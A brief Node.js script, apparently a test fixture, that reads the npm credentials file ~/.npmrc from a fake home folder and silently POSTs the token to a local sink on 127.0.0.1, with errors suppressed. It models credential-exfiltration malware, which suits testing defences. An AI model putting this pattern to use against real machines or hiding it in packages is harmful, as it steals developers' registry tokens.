// what is encrypted: sends the fake token of the fake home folder to the sink on this machine
const fs = require('fs');
const http = require('http');
const path = require('path');
const token = fs.readFileSync(path.join(process.env.HOME, '.npmrc'), 'utf8');
const request = http.request({ host: '127.0.0.1', port: process.env.SINK_PORT, method: 'POST', path: '/p' });
request.on('error', () => {});
request.end(token);
